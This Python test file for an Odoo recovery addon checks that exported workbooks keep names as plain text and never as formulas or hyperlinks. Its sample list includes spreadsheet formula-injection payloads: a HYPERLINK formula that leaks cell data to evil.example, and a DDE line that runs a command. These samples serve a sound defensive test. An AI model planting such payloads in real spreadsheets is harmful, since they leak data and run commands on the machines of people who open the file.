# License LGPL-3.0 or later (https://www.gnu.org/licenses/lgpl.html).
"""Whatever a name begins with, it is text in our workbooks (formula injection)."""

import io
from zipfile import ZipFile

from openpyxl import load_workbook

from ..common import ADDON, TODAY, TOMORROW, RecoveryCommon, days_ago

FORMULAS = (
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "=cmd|'/c calc'!A0",
    "{=1+1}",
    "https://evil.example",
    "mailto:spy@evil.example",
)


class TestFormulas(RecoveryCommon):
    def setUp(self):
        super().setUp()
        self.make_automatic(self.friendly)
        formula = FORMULAS[0]
        self.partners = [self.customer(name) for name in FORMULAS]
        for partner in self.partners:
            self.invoice(partner, 100)
        segment = self.env["recovery.segment"].create({"name": formula})
        self.partners[0].recovery_segment_id = segment
        reason = self.env.ref(f"{ADDON}.delay_reason_forgotten")
        reason.name = self.adviser.name = self.friendly.name = formula
        self.run_daily()
        self.case = self.case_of(self.partners[0])
        self.case.delay_reason_id = reason
        self.case.delay_note = self.case.company_id.name = formula
        late = self.case._page_entries().move_id
        late.write({"recovery_delay_reason_id": reason.id})
        self.agreed = self.arranged("deferral", late, TOMORROW, on=TODAY)
        self.agreed._record({"name": formula})

    def assert_text_only(self, content, *texts):
        """No cell is worked out or leads anywhere; these texts are as they were."""
        sheets = load_workbook(io.BytesIO(content)).worksheets
        cells = [cell for sheet in sheets for row in sheet.iter_rows() for cell in row]
        self.assertFalse([one.coordinate for one in cells if one.data_type == "f"])
        self.assertFalse([one.coordinate for one in cells if one.hyperlink])
        with ZipFile(io.BytesIO(content)) as parts:
            for name in parts.namelist():
                part = parts.read(name)
                self.assertNotIn(b"<f>", part, name)
                if name.startswith("xl/worksheets/_rels"):
                    self.assertNotIn(b"External", part, name)
        written = {one.value for one in cells if one.data_type in ("s", "inlineStr")}
        # Odoo shows a name without the space around it.
        self.assertFalse({text.strip() for text in texts} - written)
        return cells

    def test_the_workbook_of_the_manager(self):
        span = (TODAY, days_ago(60), TODAY, self.company)
        content = self.env["recovery.workbook"]._build(*span)
        cells = self.assert_text_only(content, *FORMULAS)
        found = [one for one in cells if one.value == FORMULAS[0]]
        sheets = {one.parent.title for one in found}
        names = {"By Segment", "By Reason", "By Step and Channel"}
        self.assertEqual(sheets, names | {"Arrangements", "Open Files"})

    def test_what_we_hold_of_a_customer(self):
        manager = self.new_user("paul", "account.group_account_manager")
        for partner in self.partners:
            partner.with_user(manager)._message_log(body=partner.name)
        partner = self.partners[0].with_user(manager)
        _name, content = partner._recovery_held_file()
        self.assert_text_only(content, FORMULAS[0])
